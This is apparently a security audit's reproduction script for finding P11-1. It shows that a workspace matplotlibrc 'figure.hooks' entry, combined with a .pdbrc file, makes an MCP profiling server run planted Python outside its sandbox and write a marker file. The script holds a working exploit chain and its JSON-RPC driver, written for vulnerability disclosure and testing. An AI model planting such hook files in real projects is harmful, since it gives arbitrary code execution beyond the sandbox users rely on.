"""FINDING P11-1 (issue 38): the server imports matplotlib unconfined, in its working directory (the
workspace, as MCP clients and README's quick start start it), to draw a sweep's plot; matplotlib reads
./matplotlibrc, whose ``figure.hooks`` names ``module:callable`` pairs that pyplot.figure imports and
calls with the new figure, in the server. A workspace's matplotlibrc (a cloned repository's, or one a
command rewrote: the root's existing files are the command's) therefore chooses code the unconfined
server runs. ``code:interact`` reads Python from the server's stdin and runs it: over stdio the client
then runs any code as the server, outside the sandbox (writes outside/pwned.txt here).
``faulthandler:_sigsegv`` (the default here) shows the call: the sweep's warning quotes _sigsegv's
TypeError on the Figure argument. ``code:interact`` (--interact) would read Python from the server's
stdin, but the MCP SDK diverts fd 0 to /dev/null (BLOCKED); no one-argument gadget that runs code was
found in the time (sys:exit answers the client SystemExit's text; sys:meta_path.append, threading:settrace
leave the server's imports or threads broken).

    .venv/bin/python docs/evidence/sandbox/probe11/repro_mplrc.py [--no-commands] [--calls | --interact]

Default: matplotlibrc ``figure.hooks: pytest:set_trace`` and a ``.pdbrc`` in the workspace: pytest's
set_trace accepts the figure, makes a Pdb, which reads ./.pdbrc and runs its lines as Python, in the
unconfined server: outside/pwned.txt written. Prints RESULT ... SUCCEEDED (a file outside the workspace
written by the server's process) or BLOCKED.
No GPU needed (KPROF_FORCE_CPU=1). --rc-only: only show that the hook is called (faulthandler:_sigsegv)."""

from __future__ import annotations

import argparse
import json
import os
import select
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[3]

ap = argparse.ArgumentParser()
ap.add_argument("--user")
ap.add_argument("--no-commands", action="store_true", help="start the server without --allow-commands")
ap.add_argument("--interact", action="store_true", help="hook code:interact (stdin is /dev/null: BLOCKED)")
ap.add_argument("--calls", action="store_true", help="only show the call (faulthandler:_sigsegv)")
a = ap.parse_args()

base = Path(tempfile.mkdtemp(prefix="kprobe11-mplrc-"))
ws, home, outside = base / "ws", base / "home", base / "outside"
for d in (ws / "evil", home, outside):
    d.mkdir(parents=True)
shutil.copy(HERE / "pkg_init.py", ws / "evil" / "__init__.py")
(ws / "evil" / "ATTACK").write_text("")
pwned = outside / "pwned.txt"
hook = "code:interact" if a.interact else "faulthandler:_sigsegv" if a.calls else "pytest:set_trace"
a.rc_only = a.calls
if hook == "pytest:set_trace":  # pytest.set_trace(*args) makes a Pdb, which runs ./.pdbrc's lines as Python
    line = "import os; open(" + repr(str(pwned)) + ", 'w').write('written by the server: pid '"
    (ws / ".pdbrc").write_text(line + " + str(os.getpid()) + ' uid ' + str(os.getuid()))\n")
(ws / "matplotlibrc").write_text(f"# a project's plot style\nfigure.hooks: {hook}\n")
if a.user:
    subprocess.run(["chown", "-R", f"{a.user}:65534", str(base)], check=True)
    os.chmod(base, 0o755)
exe = str(REPO / ".venv" / "bin" / "kprof-mcp")
argv = [exe, "--workspace", str(ws)] + ([] if a.no_commands else ["--allow-commands"])
if a.user:
    argv = ["setpriv", f"--reuid={a.user}", "--regid=65534", "--clear-groups", *argv]
env = {
    **({"PYTHONPATH": os.environ["KPROBE11_SRC"]} if os.environ.get("KPROBE11_SRC") else {}),
    "HOME": str(home),
    "PATH": os.environ["PATH"],
    "KPROF_FORCE_CPU": "1",
    "KPROF_LOCK_DIR": str(base / "locks"),
}
srv = subprocess.Popen(
    argv, cwd=ws, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE
)
print("base", base, "server pid", srv.pid, "user", a.user or "root", "argv", " ".join(argv[-3:]), flush=True)


def send(obj) -> None:
    srv.stdin.write((json.dumps(obj) if not isinstance(obj, str) else obj).encode() + b"\n")
    srv.stdin.flush()


buf = b""


def read_until(pred, timeout: float):
    global buf
    end = time.time() + timeout
    while time.time() < end:
        r, _, _ = select.select([srv.stdout], [], [], 0.2)
        if r:
            chunk = os.read(srv.stdout.fileno(), 65536)
            if not chunk:
                return None
            buf += chunk
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            try:
                msg = json.loads(line)
            except ValueError:
                print("non-JSON on the server's stdout:", line[:200], flush=True)
                continue
            if pred(msg):
                return msg
    return None


send(
    {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "initialize",
        "params": {
            "protocolVersion": "2025-06-18",
            "capabilities": {},
            "clientInfo": {"name": "kprobe11", "version": "0"},
        },
    }
)
print("initialize:", bool(read_until(lambda m: m.get("id") == 1, 60)), flush=True)
send({"jsonrpc": "2.0", "method": "notifications/initialized"})
send(
    {
        "jsonrpc": "2.0",
        "id": 2,
        "method": "tools/call",
        "params": {
            "name": "sweep",
            "arguments": {
                "kernel": "./evil",
                "param": "n",
                "values": [256, 512],
                "budget_ms": 20,
                "wait_s": 5,
            },
        },
    }
)
m = read_until(lambda m: m.get("id") == 2, 60)
print("sweep call:", json.dumps(m)[:300] if m else None, flush=True)
code = f"import os; open({str(pwned)!r}, 'w').write('written by pid %d uid %d' % (os.getpid(), os.getuid()))"
job = None
called = False
try:
    job = (m or {}).get("result", {}).get("structuredContent", {}).get("job_id")
except AttributeError:
    pass
deadline = time.time() + (30 if a.interact else 120)
i = 3
if not a.rc_only and not a.interact:  # wait for the sweep (the file appears when its plot is drawn)
    while time.time() < deadline and not pwned.exists():
        if job:
            send(
                {
                    "jsonrpc": "2.0",
                    "id": i,
                    "method": "tools/call",
                    "params": {"name": "get_profile", "arguments": {"job_id": job, "wait_s": 5}},
                }
            )
            i += 1
            last = read_until(lambda m: m.get("id") == i - 1, 10)
            if last and '"status": "running"' not in json.dumps(last):
                print(
                    "sweep result:",
                    [w for w in json.dumps(last).split("\\n") if "artifact" in w][:2],
                    flush=True,
                )
                break
        else:
            time.sleep(1)
while time.time() < deadline and not pwned.exists():
    send(code)  # a line of Python, not JSON: the SDK's reader answers a parse error; interact() runs it
    if job:
        send(
            {
                "jsonrpc": "2.0",
                "id": i,
                "method": "tools/call",
                "params": {"name": "get_profile", "arguments": {"job_id": job, "wait_s": 1}},
            }
        )
        i += 1
    r = read_until(
        lambda m: "sweep.png not written" in json.dumps(m) or "cannot be interpreted" in json.dumps(m), 1.0
    )
    if r and a.rc_only:
        said = [w for w in json.dumps(r).split("\\n") if "not written" in w or "interpreted" in w][:1]
        print("the server's answer:", said, flush=True)
        called = any("'Figure' object cannot be interpreted as an integer" in w for w in said)
        break
srv.stdin.close()
try:
    srv.wait(15)
except subprocess.TimeoutExpired:
    srv.kill()
    srv.wait()
err = srv.stderr.read().decode(errors="replace")
print(
    "server stderr (tail):",
    "\n".join(ln for ln in err.splitlines() if " INFO " not in ln)[-1500:],
    flush=True,
)
if a.rc_only:
    print(
        "RESULT P11-1 matplotlibrc figure.hooks:",
        "SUCCEEDED (the unconfined server imported faulthandler and called _sigsegv(figure), named by the workspace's matplotlibrc)"
        if called
        else "BLOCKED (no hook called)",
    )
else:
    print("outside/pwned.txt:", pwned.read_text() if pwned.exists() else "(absent)")
    print(
        "RESULT P11-1 matplotlibrc figure.hooks:",
        "SUCCEEDED (the server ran the client's Python, a file outside written)"
        if pwned.exists()
        else "BLOCKED",
    )
left = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
print("processes of this base left:", [ln for ln in left.splitlines() if str(base) in ln])
subprocess.run(["rm", "-rf", str(base)])
